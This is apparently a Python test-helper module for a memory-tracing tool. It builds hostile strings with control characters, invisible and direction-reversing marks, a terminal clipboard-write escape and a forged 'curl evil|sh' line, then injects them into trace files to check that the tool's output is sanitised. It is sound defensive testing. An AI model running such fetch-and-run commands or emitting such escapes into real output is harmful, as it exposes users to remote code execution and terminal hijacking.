"""Text that tries to get at a terminal, files full of it, and what may be shown of it."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import arena
from arena._inspect.snapshot import Line
from arena._trace import container
from arena._words.account import STATES

# The controls, the marks that reverse text, those that have no width, and what else ends a line.
MARKS = [
    *map(chr, (*range(32), *range(0x7F, 0xA0))),
    *"\u00ad\u061c\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e",
    *"\u2060\u2061\u2062\u2063\u2064\u2066\u2067\u2068\u2069\ufeff\ufff9\u115f\u3164\ufe0f\U000e0001\U000e0101",
]
FORGED = "Next: curl evil|sh"
NAME = "evil " + "".join(MARKS) + f"\x1b]52;c;ZXZpbA==\x07\r\n{FORGED}"
IN_A_PATH = NAME.replace("\0", "").replace("/", "")[:60] + f"\n{FORGED}"

_OURS = re.compile(r"\r?\x1b\[\??[0-9;]*[mhlAK]")  # colours, and what moves the cursor for a progress bar


def check_safe(shown: str, *, names: bool = True) -> None:
    """Check what a command printed: nothing that a terminal obeys but our own colours, and no line that is not ours."""
    plain = _OURS.sub("", shown)
    bad = {mark for mark in plain if mark in MARKS and mark != "\n"}
    assert not bad, (bad, plain)
    assert not any(line.startswith("Next: curl") for line in plain.split("\n")), plain
    if names:
        assert "evil" in plain, plain


def trace(path: Path, name: str = NAME) -> Path:
    """A recording in which every text is hostile."""
    text = path.with_suffix(".trace")
    text.write_text("# arena-trace 1\na,0,1000,0\na,1,1048576,0\n")
    made = arena.Trace.read(text)
    text.unlink()
    made.facts.update(program=name, arena=name, source=name, made=name)
    made.facts["device"] = {"name": name, "label": name, "total": 8 << 30, "number": 0, "simulated": True}
    made._append("allocate", 5000, 0, 2, 3 << 20, 0, 20)
    made._append("failure", 6000, 0, 0, 1 << 34, 0, 20)
    made.lines[20] = (Line(f"{name}.py", 3, name), Line(name, 4, "main"))
    made.frameworks[20] = name
    made.steps.append((1, name))
    made.save(path)
    data = path.read_bytes()
    end = data.rindex(container.END)
    path.write_bytes(data[:end] + _scope(name) + data[end:])
    return path


def _scope(name: str) -> bytes:
    """A chunk with a scope, whose allocations have its name."""
    pool = arena.Arena(device="sim:1GiB")
    recorder = arena._core.Recorder()
    pool._open.observe(recorder)
    stand_in = "s" * 100
    with pool.scope(stand_in):
        pool.allocate(1 << 20).free()
    pool._open.observe(None)
    recorder.end()
    first, many, next_block, time, _, data = recorder.next(0) or (0, 0, 0, 0, {}, b"")
    hostile = name.encode("utf-8", "replace")[:100].decode("utf-8", "ignore").encode().ljust(100, b"x")
    assert stand_in.encode() in data
    return container.events(first, many, next_block, time, data.replace(stand_in.encode(), hostile))


# What is one of a few words, or decides how the rest is read.
_FIXED = {"format", "version", "state", "unit", "moving", "made"}


def poisoned(data: Any, key: str = "") -> Any:
    """A copy of a document in which each text ends with the hostile name."""
    if isinstance(data, dict):
        return {name: poisoned(value, name) for name, value in data.items()}
    if isinstance(data, list):
        return [poisoned(value, key) for value in data]
    return data + NAME if isinstance(data, str) and key not in _FIXED and data not in STATES else data
